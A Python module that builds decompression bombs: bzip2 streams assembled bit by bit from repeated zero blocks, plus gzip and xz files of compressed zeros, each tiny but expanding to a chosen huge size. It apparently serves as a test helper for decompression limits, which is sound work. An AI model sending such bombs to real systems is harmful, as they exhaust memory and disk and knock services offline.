"""bombs -- decompression bombs built in well under a second (no gigabyte is ever compressed)."""
import bz2
import functools
import lzma
import zlib

_BZ_BLOCK_ZEROS = 179996 * 255      # zeros whose RLE1 form fills one 900 kB bzip2 block exactly
_BZ_END = 0x177245385090


def _bits(data):
    return "".join(f"{b:08b}" for b in data)


@functools.lru_cache(maxsize=None)
def _bz_block():
    """(bits of one bzip2 block of zeros, its CRC, bytes it expands to)."""
    s = _bits(bz2.compress(bytes(_BZ_BLOCK_ZEROS), 9))
    for pad in range(8):
        end = len(s) - pad - 80
        if int(s[end:end + 48], 2) == _BZ_END:
            block = s[32:end]
            assert int(block[:48], 2) == 0x314159265359
            return block, int(block[48:80], 2), _BZ_BLOCK_ZEROS
    raise AssertionError("no bzip2 end marker")


def bzip2_bomb(size):
    """One bzip2 stream expanding to at least size zero bytes (about 35 bytes per 44 MiB)."""
    block, crc, per = _bz_block()
    n = max(1, -(-size // per))
    combined = 0
    for _ in range(n):
        combined = ((combined << 1) | (combined >> 31)) & 0xFFFFFFFF
        combined ^= crc
    s = _bits(b"BZh9") + block * n + f"{_BZ_END:048b}" + f"{combined:032b}"
    s += "0" * (-len(s) % 8)
    return int(s, 2).to_bytes(len(s) // 8, "big")


def gzip_bomb(size, chunk=1 << 24):
    """A gzip member of size zero bytes (about 1 KB per MiB: deflate's limit is 1032:1)."""
    c = zlib.compressobj(9, zlib.DEFLATED, 31)
    out = []
    zero = bytes(chunk)
    left = size
    while left > 0:
        out.append(c.compress(zero[:min(chunk, left)]))
        left -= chunk
    out.append(c.flush())
    return b"".join(out)


def xz_bomb(size, chunk=1 << 24):
    c = lzma.LZMACompressor(lzma.FORMAT_XZ, preset=6)
    zero = bytes(chunk)
    out = []
    left = size
    while left > 0:
        out.append(c.compress(zero[:min(chunk, left)]))
        left -= chunk
    out.append(c.flush())
    return b"".join(out)
